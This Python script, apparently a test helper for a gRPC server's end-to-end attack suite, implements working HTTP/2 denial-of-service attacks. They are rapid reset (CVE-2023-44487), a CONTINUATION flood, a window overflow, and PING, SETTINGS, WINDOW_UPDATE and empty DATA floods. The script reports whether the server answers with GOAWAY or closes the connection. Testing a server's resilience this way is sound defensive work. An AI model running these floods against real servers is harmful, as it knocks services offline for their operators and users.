"""HTTP/2 abuse against a gRPC port, for tests/attack_e2e.rs: rapid reset (CVE-2023-44487),
a CONTINUATION flood, a connection window overflow, and PING, SETTINGS, WINDOW_UPDATE and
empty DATA floods. Prints one line per
attack: `attack=NAME outcome=goaway|closed|open code=N sent=N`."""

import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "attack"),
    (":path", "/users.v1.UsersService/FindOne"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def goaway_in(data):
    """The error code of the first GOAWAY frame in raw server bytes, if any."""
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        kind = data[at + 3]
        if kind == 7 and at + 9 + 8 <= len(data):
            return int.from_bytes(data[at + 13:at + 17], "big")
        at += 9 + length
    return None


class GoawayWatch:
    """Finds the first GOAWAY in server bytes fed in chunks, keeping only a partial frame."""

    def __init__(self):
        self.pending = b""
        self.code = None

    def feed(self, chunk):
        data = self.pending + chunk
        at = 0
        while self.code is None and at + 9 <= len(data):
            length = int.from_bytes(data[at:at + 3], "big")
            if at + 9 + length > len(data):
                break
            if data[at + 3] == 7 and length >= 8:
                self.code = int.from_bytes(data[at + 13:at + 17], "big")
            at += 9 + length
        self.pending = data[at:]


def read_until_closed(sock, seconds):
    """Server bytes until it closes the connection or `seconds` pass; and whether it closed."""
    data = b""
    end = time.time() + seconds
    while time.time() < end:
        ready, _, _ = select.select([sock], [], [], 0.1)
        if not ready:
            continue
        try:
            chunk = sock.recv(65536)
        except (ConnectionResetError, OSError):
            return data, True
        if not chunk:
            return data, True
        data += chunk
    return data, False


def report(name, data, closed, sent):
    code = goaway_in(data)
    outcome = "goaway" if code is not None else ("closed" if closed else "open")
    print(f"attack={name} outcome={outcome} code={code if code is not None else -1} sent={sent}", flush=True)


def rapid_reset(host, port, limit=20000):
    sock = socket.create_connection((host, port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    data, sent, closed = b"", 0, False
    try:
        for _ in range(limit):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, HEADERS)
            conn.reset_stream(stream, error_code=8)
            sock.sendall(conn.data_to_send())
            sent += 1
            if sent % 50 == 0:
                ready, _, _ = select.select([sock], [], [], 0)
                if ready:
                    chunk = sock.recv(65536)
                    if not chunk:
                        closed = True
                        break
                    data += chunk
                    if goaway_in(data) is not None:
                        break
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError, OSError):
        closed = True
    more, closed_later = read_until_closed(sock, 3)
    report("rapid_reset", data + more, closed or closed_later, sent)


def continuation_flood(host, port, limit=4000):
    sock = socket.create_connection((host, port))
    sock.sendall(PREFACE + frame(4, 0, 0, b""))
    encoder = hpack.Encoder()
    sock.sendall(frame(1, 0, 1, encoder.encode(HEADERS)))
    sent, closed = 0, False
    value = "x" * 4000
    try:
        for index in range(limit):
            block = encoder.encode([(f"x-flood-{index}", value)])
            sock.sendall(frame(9, 0, 1, block))
            sent += len(block)
    except (BrokenPipeError, ConnectionResetError, OSError):
        closed = True
    data, closed_later = read_until_closed(sock, 3)
    report("continuation_flood", data, closed or closed_later, sent)


def window_overflow(host, port):
    sock = socket.create_connection((host, port))
    sock.sendall(PREFACE + frame(4, 0, 0, b""))
    increment = (0x7FFFFFFF).to_bytes(4, "big")
    sent, closed = 0, False
    try:
        for _ in range(2):
            sock.sendall(frame(8, 0, 0, increment))
            sent += 1
    except (BrokenPipeError, ConnectionResetError, OSError):
        closed = True
    data, closed_later = read_until_closed(sock, 3)
    report("window_update_overflow", data, closed or closed_later, sent)


def control_flood(name, host, port, flood_frame, opening=b"", limit=200000):
    """Cheap control frames in batches of 100, reading what the server sends in between (a
    flooder that reads keeps h2 answering): stops at a GOAWAY, a closed connection, or when
    the server stops reading (the send blocks for 2 s)."""
    sock = socket.create_connection((host, port))
    sock.sendall(PREFACE + frame(4, 0, 0, b"") + opening)
    sock.settimeout(2)
    watch, sent, closed = GoawayWatch(), 0, False
    batch = flood_frame * 100
    try:
        while sent < limit and watch.code is None:
            sock.sendall(batch)
            sent += 100
            ready, _, _ = select.select([sock], [], [], 0)
            if ready:
                chunk = sock.recv(1 << 20)
                if not chunk:
                    closed = True
                    break
                watch.feed(chunk)
    except socket.timeout:
        pass
    except (BrokenPipeError, ConnectionResetError, OSError):
        closed = True
    sock.settimeout(None)
    more, closed_later = read_until_closed(sock, 3)
    watch.feed(more)
    closed = closed or closed_later
    outcome = "goaway" if watch.code is not None else ("closed" if closed else "open")
    code = watch.code if watch.code is not None else -1
    print(f"attack={name} outcome={outcome} code={code} sent={sent}", flush=True)


def ping_flood(host, port):
    control_flood("ping_flood", host, port, frame(6, 0, 0, b"\x00" * 8))


def settings_flood(host, port):
    control_flood("settings_flood", host, port, frame(4, 0, 0, b""))


def window_update_flood(host, port):
    """WINDOW_UPDATEs of one byte on the connection: legal, and never answered."""
    control_flood("window_update_flood", host, port, frame(8, 0, 0, (1).to_bytes(4, "big")))


def empty_data_flood(host, port):
    """Empty DATA frames on an open stream (CVE-2019-9518)."""
    headers = frame(1, 4, 1, hpack.Encoder().encode(HEADERS))
    control_flood("empty_data_flood", host, port, frame(0, 0, 1, b""), opening=headers)


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    for attack in sys.argv[3:]:
        {"rapid_reset": rapid_reset, "continuation_flood": continuation_flood,
         "window_update_overflow": window_overflow, "ping_flood": ping_flood,
         "settings_flood": settings_flood, "window_update_flood": window_update_flood,
         "empty_data_flood": empty_data_flood}[attack](host, port)


if __name__ == "__main__":
    main()
